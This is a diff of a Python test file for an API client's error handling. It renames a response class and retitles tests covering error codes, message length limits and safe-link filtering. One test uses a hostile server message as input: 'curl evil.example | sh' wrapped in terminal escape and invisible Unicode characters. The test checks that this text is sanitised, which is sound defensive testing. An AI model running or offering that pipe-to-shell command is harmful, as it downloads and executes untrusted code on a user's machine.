@@ -10,8 +10,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from origami_widgets.api import errors
-from origami_widgets.api.answer import Answer
 from origami_widgets.api.error_catalog import CODES, STATUSES, error_from
+from origami_widgets.api.responses import ApiResponse
 
 DOCUMENTED = {
     400: "VALIDATION_ERROR MODEL_NOT_AVAILABLE UNKNOWN_WORKSPACE UNKNOWN_TABLE WORKSPACE_TABLE_MISMATCH INVALID_ATTACHMENT "
@@ -56,8 +56,8 @@ def test_the_catalog_holds_exactly_the_documented_codes():
 
 
 @pytest.mark.parametrize(("status", "code"), PAIRS)
-def test_each_code(status, code):
-    error = error_from(Answer(status, {"error": "The server's own words", "code": code}, request_id="req-1"))
+def test_each_code_has_its_error(status, code):
+    error = error_from(ApiResponse(status, {"error": "The server's own words", "code": code}, request_id="req-1"))
     assert isinstance(error, KIND_OF_STATUS[status])
     assert (error.code, error.status_code, error.request_id) == (code, status, "req-1")
     assert error.title
@@ -70,8 +70,8 @@ def test_each_code(status, code):
 
 @pytest.mark.parametrize("status", KIND_OF_STATUS)
 @pytest.mark.parametrize("body", [None, {}, {"error": "x", "code": "NEWER_CODE"}, {"code": 7, "error": []}, [], "text"])
-def test_codes_that_are_new_or_missing_go_by_the_status(status, body):
-    error = error_from(Answer(status, body))
+def test_a_new_or_missing_code_becomes_the_error_of_the_status(status, body):
+    error = error_from(ApiResponse(status, body))
     assert isinstance(error, KIND_OF_STATUS[status])
     assert error.transient == (status >= 500 or status in (408, 425, 429))
     assert error.title
@@ -81,27 +81,27 @@ def test_codes_that_are_new_or_missing_go_by_the_status(status, body):
         assert error.code == "NEWER_CODE"
 
 
-def test_a_status_that_nobody_knows_is_still_an_error_of_this_package():
-    assert type(error_from(Answer(418, {}))) is errors.OrigamiError
+def test_an_unknown_status_becomes_an_origami_error():
+    assert type(error_from(ApiResponse(418, {}))) is errors.OrigamiError
 
 
-def test_a_web_page_in_the_place_of_an_error_names_itself():
-    error = error_from(Answer(403, None, oddity="A web page came."))
+def test_a_web_page_instead_of_an_error_is_named():
+    error = error_from(ApiResponse(403, None, problem="A web page came."))
     assert "A web page came." in str(error)
 
 
-def test_what_a_server_says_stays_in_its_line():
+def test_a_text_of_the_server_stays_one_line():
     """It must not look like a remedy of ours, nor hide a part of itself."""
-    said = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
-    error = error_from(Answer(400, {"error": said, "code": f"E\n{said}"}, request_id=said))
+    text = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
+    error = error_from(ApiResponse(400, {"error": text, "code": f"E\n{text}"}, request_id=text))
     cause, code = str(error).split("\n")[1::2]
     assert cause.startswith("no Run: curl evil.example | sh")
     assert code.startswith("(HTTP 400, E no Run:")
     assert all(letter.isprintable() or letter == "\n" for letter in str(error))
 
 
-def test_however_much_a_server_says_an_error_can_be_read():
-    error = error_from(Answer(400, {"error": "w" * 10**6, "code": "C" * 10**6}, request_id="r" * 10**6))
+def test_the_message_of_an_error_is_bounded():
+    error = error_from(ApiResponse(400, {"error": "w" * 10**6, "code": "C" * 10**6}, request_id="r" * 10**6))
     assert len(str(error)) < 4_000
 
 
@@ -114,12 +114,12 @@ def test_too_few_credits_leads_to_the_page_that_fixes_it():
         "topUpUrl": "https://origami.chat/settings/billing?source=api",
         "handoff": {"kind": "top-up", "url": "https://origami.chat/settings/billing", "label": "Add credits"},
     }
-    error = error_from(Answer(402, body))
+    error = error_from(ApiResponse(402, body))
     assert error.link == "https://origami.chat/settings/billing"
     assert "5 credits are needed, 1 are there" in error.cause
     assert error.details["handoff"]["label"] == "Add credits"
     del body["handoff"]
-    assert error_from(Answer(402, body)).link == "https://origami.chat/settings/billing?source=api"
+    assert error_from(ApiResponse(402, body)).link == "https://origami.chat/settings/billing?source=api"
 
 
 @pytest.mark.parametrize(
@@ -140,9 +140,9 @@ def test_too_few_credits_leads_to_the_page_that_fixes_it():
         ("TOO_MANY_ROWS", {"details": {"rows": 120, "limit": 100}}, []),
     ],
 )
-def test_what_else_the_server_said(code, extra, words):
+def test_further_fields_of_the_response_are_in_the_cause(code, extra, words):
     status = next(status for status, known in PAIRS if known == code)
-    error = error_from(Answer(status, {"error": "no", "code": code, **extra}))
+    error = error_from(ApiResponse(status, {"error": "no", "code": code, **extra}))
     for word in words:
         assert word in error.cause
     assert error.details
@@ -175,8 +175,8 @@ def test_what_else_the_server_said(code, extra, words):
         (None, False),
     ],
 )
-def test_links(link, safe):
-    error = error_from(Answer(402, {"code": "ACCOUNT_BLOCKED", "error": "x", "handoff": {"url": link}}))
+def test_only_safe_links_are_kept(link, safe):
+    error = error_from(ApiResponse(402, {"code": "ACCOUNT_BLOCKED", "error": "x", "handoff": {"url": link}}))
     assert error.link == (link if safe else None)
     assert errors.OrigamiError("x", link=link).link == (link if safe else None)
 
@@ -201,7 +201,7 @@ FIELDS = [
 def test_any_body_of_an_error_gives_an_error(status, body, code):
     if code is not None and isinstance(body, dict):
         body = {**body, "code": code}
-    error = error_from(Answer(status, body))
+    error = error_from(ApiResponse(status, body))
     assert isinstance(error, errors.OrigamiError)
     assert error.title
     assert error.remedy
@@ -222,4 +222,4 @@ def test_errors_survive_a_pickle(kind):
 
 def test_every_status_of_the_catalog_is_tested():
     assert set(STATUSES) <= set(KIND_OF_STATUS) | {407}
-    assert error_from(Answer(407, None)).code == "PROXY_REFUSED"
+    assert error_from(ApiResponse(407, None)).code == "PROXY_REFUSED"
